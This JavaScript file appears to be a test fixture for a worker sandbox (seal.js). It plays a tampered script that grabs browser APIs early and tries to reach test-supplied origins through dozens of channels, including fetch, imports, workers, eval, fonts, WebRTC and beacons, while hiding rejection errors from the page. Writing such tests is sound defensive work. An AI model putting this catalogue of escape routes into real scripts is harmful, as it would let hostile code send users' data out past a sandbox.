// What a tampered script would do, put before the text of a worker: it takes hold of everything that the browser
// offers before seal.js can take it away, and tries to get out with each.

// The page is not to learn of what fails here.
addEventListener("unhandledrejection", (event) => event.stopImmediatePropagation());

/** Where to, and the name of the script; the test puts them before this. */
const { ORIGINS, SCRIPT } = globalThis;
const { log } = console;
// What is held here stays, whatever is taken from the global object.
const {
  Blob,
  EventSource,
  FontFace,
  Notification,
  OffscreenCanvas,
  RTCPeerConnection,
  Request,
  SharedWorker,
  ShadowRealm,
  TCPSocket,
  WebSocket,
  WebSocketStream,
  WebTransport,
  Worker,
  XMLHttpRequest,
  caches,
  createImageBitmap,
  crossOriginStorage,
  fetch,
  fetchLater,
  fonts,
  importScripts,
  navigator,
  registration,
} = /** @type {any} */ (globalThis);
const { createObjectURL } = URL;

/** @type {[route: string, attempt: (url: string) => unknown][]} */
const routes = [
  ["fetch", (url) => fetch(url)],
  ["fetch no-cors", (url) => fetch(url, { mode: "no-cors", keepalive: true, method: "POST", body: "x" })],
  ["request", (url) => fetch(new Request(url))],
  ["fetch later", (url) => fetchLater(url)],
  [
    "xhr",
    (url) => {
      const request = new XMLHttpRequest();
      request.open("POST", url, false);
      request.send("x");
    },
  ],
  ["websocket", (url) => new WebSocket(url.replace("http", "ws"))],
  ["websocketstream", (url) => new WebSocketStream(url.replace("http", "ws"))],
  ["eventsource", (url) => new EventSource(url)],
  ["webtransport", (url) => new WebTransport(url.replace("http:", "https:"))],
  ["import", (url) => import(url)],
  ["import json", (url) => import(url, { with: { type: "json" } })],
  ["import css", (url) => import(url, { with: { type: "css" } })],
  ["import text", (url) => import(url, { with: { type: "text" } })],
  ["import bytes", (url) => import(url, { with: { type: "bytes" } })],
  ["import of a text", (url) => import(createObjectURL(script(`import ${JSON.stringify(url)}`)))],
  ["import of an address", (url) => import(`data:text/javascript,import ${JSON.stringify(url)}`)],
  ["importScripts", (url) => importScripts(url)],
  ["worker", (url) => new Worker(url)],
  ["module worker", (url) => new Worker(url, { type: "module" })],
  ["worker of a text", (url) => new Worker(createObjectURL(script(`fetch(${JSON.stringify(url)})`)))],
  ["worker of an address", (url) => new Worker(`data:text/javascript,fetch(${JSON.stringify(url)})`)],
  ["shared worker", (url) => new SharedWorker(url)],
  ["service worker", (url) => navigator.serviceWorker.register(url)],
  ["cache of requests", async (url) => (await caches.open("x")).addAll([new Request(url)])],
  [
    "cache of a bucket",
    async (url) => (await (await navigator.storageBuckets.open("x")).caches.open("x")).add(url),
  ],
  ["cache", async (url) => (await caches.open("x")).add(url)],
  ["font", (url) => new FontFace("x", `url(${JSON.stringify(url)})`).load()],
  [
    "set of fonts",
    (url) => {
      fonts.add(new FontFace("x", `url(${JSON.stringify(url)})`));
      return fonts.load("12px x");
    },
  ],
  [
    "filter of a canvas",
    (url) => {
      const drawn = new OffscreenCanvas(8, 8).getContext("2d");
      drawn.filter = `url(${JSON.stringify(`${url}#x`)})`;
      drawn.fillRect(0, 0, 8, 8);
    },
  ],
  ["beacon", (url) => navigator.sendBeacon(url, "x")],
  ["webrtc", (url) => new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(url).host}` }] })],
  // biome-ignore lint/security/noGlobalEval: it is one of the ways that must not open.
  ["eval", (url) => globalThis.eval(`fetch(${JSON.stringify(url)})`)],
  ["function", (url) => new Function("url", "return fetch(url)")(url)],
  ["async function", (url) => (async () => {}).constructor("url", "return fetch(url)")(url)],
  ["realm", (url) => new ShadowRealm().importValue(url, "x")],
  ["timer", (url) => setTimeout(`fetch(${JSON.stringify(url)})`)],
  ["streaming instance", (url) => WebAssembly.instantiateStreaming(fetch(url))],
  ["streaming", (url) => WebAssembly.compileStreaming(fetch(url))],
  [
    "image",
    (url) =>
      createImageBitmap(
        new Blob([`<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}"/></svg>`], {
          type: "image/svg+xml",
        }),
      ),
  ],
  ["notification", (url) => new Notification("x", { icon: url, image: url, badge: url })],
  ["shown notification", (url) => registration.showNotification("x", { icon: url })],
  ["content index", (url) => registration.index.add({ id: "x", title: "x", description: "x", url })],
  ["socket", (url) => new TCPSocket(new URL(url).hostname, Number(new URL(url).port)).opened],
  ["background fetch", (url) => registration.backgroundFetch.fetch("x", url)],
  ["crypto", (url) => crossOriginStorage.requestFileHandles([url])],
  [
    "blank worker, then its script",
    (url) => new Worker(createObjectURL(script(`import(${JSON.stringify(url)})`)), { type: "module" }),
  ],
];

/** @param {string} text */
const script = (text) => new Blob([text], { type: "text/javascript" });

/** What is refused says so at once, or never. */
const TIMEOUT_MS = 1000;

// Now, and once the worker is at work.
for (const [round, when] of [
  ["first", 0],
  ["second", 1500],
]) {
  setTimeout(async () => {
    const attempts = ORIGINS.flatMap((/** @type {string} */ origin) =>
      routes.map(async ([route, attempt]) => attempt(`${origin}/try/${encodeURIComponent(route)}?FOUR`)),
    );
    await Promise.race([
      Promise.allSettled(attempts),
      new Promise((resolve) => setTimeout(resolve, TIMEOUT_MS)),
    ]);
    log(`${SCRIPT} has tried everything: ${round} time`);
  }, when);
}
